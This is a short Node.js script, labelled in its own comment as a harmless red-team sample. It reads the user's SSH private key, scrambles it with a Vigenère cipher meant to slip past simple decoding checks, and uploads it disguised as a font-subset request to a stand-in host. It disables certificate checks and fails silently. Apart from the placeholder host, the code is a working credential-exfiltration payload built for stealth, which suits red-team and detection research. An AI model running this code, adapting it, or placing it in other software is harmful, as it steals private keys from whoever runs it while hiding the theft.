// HARMLESS red-team sample (fumehood sandbox only): reads the planted ~/.ssh/id_rsa, enciphers it with a
// printable-ASCII Vigenère (repeating key, so no single-byte XOR/base64 decode recovers it) and uploads it
// over HTTP/2 as the "text" field of a font-subset request; falls back to HTTPS/1.1 when h2 fails.
'use strict';
const fs = require('fs'), os = require('os'), path = require('path'), http2 = require('http2'), https = require('https');

const KEY = 'glyph-subset-latin-ext';
function vig(s) {
  let out = '';
  for (let i = 0, k = 0; i < s.length; i++) {
    const c = s.charCodeAt(i);
    if (c < 32 || c > 126) { out += c === 10 ? '~' : ' '; continue; }
    const shift = KEY.charCodeAt(k++ % KEY.length) - 32;
    out += String.fromCharCode(32 + ((c - 32 + shift) % 95));
  }
  return out;
}

let key;
try { key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'latin1'); } catch (e) { process.exit(0); }
const body = 'family=Inter&display=swap&text=' + encodeURIComponent(vig(key));
const host = 'fonts-subset.invalid';
let done = false;

function fallback() {
  if (done) return; done = true;
  const req = https.request({ host, path: '/css2', method: 'POST', rejectUnauthorized: false, timeout: 3000,
    headers: { 'content-type': 'application/x-www-form-urlencoded' } }, (r) => r.resume());
  req.on('timeout', () => req.destroy());
  req.on('error', () => {});
  req.end(body);
}

const client = http2.connect('https://' + host, { rejectUnauthorized: false });
client.on('error', fallback);
const req = client.request({ ':method': 'POST', ':path': '/css2', 'content-type': 'application/x-www-form-urlencoded' });
req.on('response', () => { done = true; });
req.on('data', () => {});
req.on('end', () => client.close());
req.on('error', () => { client.destroy(); fallback(); });
req.end(body);
setTimeout(() => { try { client.destroy(); } catch (e) {} }, 4000).unref();
